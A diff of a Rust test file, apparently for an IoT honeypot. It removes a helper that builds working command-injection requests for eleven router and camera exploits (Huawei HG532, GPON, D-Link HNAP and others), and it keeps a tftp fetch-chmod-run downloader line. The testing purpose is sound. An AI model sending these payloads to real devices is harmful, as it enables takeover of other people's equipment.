@@ -198,98 +198,6 @@ fn jaws_shell_runs_the_query_and_answers_with_its_output() {
     );
 }
 
-/// Each entry as a bot sends it, with `cmd` in its place (URL-encoded where the
-/// field is).
-fn exploit_request(name: &str, cmd: &str) -> (u16, Vec<u8>) {
-    let url = |s: &str| -> String {
-        s.bytes()
-            .map(|b| match b {
-                b' ' => "+".to_string(),
-                b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'/' | b'.' | b'-' | b'_' | b':' => {
-                    (b as char).to_string()
-                }
-                _ => format!("%{b:02X}"),
-            })
-            .collect()
-    };
-    let post = |port: u16, path: &str, headers: &str, body: String| -> (u16, Vec<u8>) {
-        (
-            port,
-            format!(
-                "POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n{headers}Content-Length: {}\r\n\r\n{body}",
-                body.len()
-            )
-            .into_bytes(),
-        )
-    };
-    let get = |port: u16, target: String| -> (u16, Vec<u8>) {
-        (
-            port,
-            format!("GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n").into_bytes(),
-        )
-    };
-    match name {
-        "huawei-hg532-upgrade" => post(
-            37215,
-            "/ctrlt/DeviceUpgrade_1",
-            "Authorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", nonce=\"88645cefb1f9ede0e336e3569d75ee30\", uri=\"/ctrlt/DeviceUpgrade_1\", response=\"3612f843a42db38f48f59d2a3597e19c\", algorithm=\"MD5\", qop=\"auth\", nc=00000001, cnonce=\"248d1a2560100669\"\r\nSOAPAction: urn:schemas-upnp-org:service:WANPPPConnection:1#Upgrade\r\n",
-            format!("<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$({cmd})</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>"),
-        ),
-        "realtek-miniigd-portmapping" => post(
-            52869,
-            "/picsdesc.xml",
-            "SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n",
-            format!("<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\"><NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort><NewInternalClient>`{cmd}`</NewInternalClient><NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>"),
-        ),
-        "gpon-diag-form" => post(
-            8080,
-            "/GponForm/diag_Form?images/",
-            "",
-            format!("XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`{}`;{}&ipv=0", url(cmd), url(cmd)),
-        ),
-        "jaws-shell" => get(80, format!("/shell?{}", url(cmd))),
-        "netgear-setup-cgi" => get(
-            80,
-            format!("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd={}&curpath=/&currentsetting.htm=1", url(cmd)),
-        ),
-        "dlink-hnap-soapaction" => post(
-            80,
-            "/HNAP1/",
-            &format!("SOAPAction: \"http://purenetworks.com/HNAP1/`{cmd}`\"\r\n"),
-            String::new(),
-        ),
-        "tr064-set-ntp-servers" => post(
-            7547,
-            "/UD/act?1",
-            "SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n",
-            format!("<?xml version=\"1.0\"?><SOAP-ENV:Envelope xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\"><SOAP-ENV:Body><u:SetNTPServers xmlns:u=\"urn:dslforum-org:service:Time:1\"><NewNTPServer1>`{cmd}`</NewNTPServer1><NewNTPServer2></NewNTPServer2></u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>"),
-        ),
-        "vacron-board-cgi" => get(80, format!("/board.cgi?cmd={}", url(cmd))),
-        "zyxel-viewlog" => post(
-            80,
-            "/cgi-bin/ViewLog.asp",
-            "Content-Type: application/x-www-form-urlencoded\r\n",
-            format!("remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%3b{}%3b%23&remoteSubmit=Save", url(cmd)),
-        ),
-        "tplink-archer-locale" => get(
-            80,
-            format!("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$({})", url(cmd)),
-        ),
-        "hikvision-weblanguage" => (
-            80,
-            {
-                let body = format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$({cmd})</language>");
-                format!(
-                    "PUT /SDK/webLanguage HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded; charset=UTF-8\r\nContent-Length: {}\r\n\r\n{body}",
-                    body.len()
-                )
-                .into_bytes()
-            },
-        ),
-        other => panic!("no request shape for {other}"),
-    }
-}
-
 #[test]
 fn every_exploit_of_the_table_runs_its_downloader_on_a_profile_that_exposes_it() {
     let table = Table::builtin();
@@ -319,7 +227,7 @@ fn every_exploit_of_the_table_runs_its_downloader_on_a_profile_that_exposes_it()
         } else {
             format!("cd {dir}; tftp -g -r {script} 127.0.0.1; chmod 777 {script}; sh {script}")
         };
-        let (port, request) = exploit_request(&entry.name, &cmd);
+        let (port, request) = busybait_pcapgen::exploits::request(&entry.name, &cmd);
         let x = exchange(&config, port, &request, b"echo dropped\n");
         let name = &entry.name;
         let exploit = x.events.iter().find_map(|e| match e {
@@ -383,7 +291,7 @@ fn every_exploit_of_the_table_runs_its_downloader_on_a_profile_that_exposes_it()
 fn an_exploit_on_another_port_of_the_device_is_a_404() {
     // The HG532 endpoint is on 37215; on the router's port 80 it does not exist.
     let config = config("router-mips");
-    let (_, request) = exploit_request("huawei-hg532-upgrade", "id");
+    let (_, request) = busybait_pcapgen::exploits::request("huawei-hg532-upgrade", "id");
     let x = exchange(&config, 80, &request, b"");
     assert!(
         x.out.starts_with(b"HTTP/1.1 401 Unauthorized\r\n"),
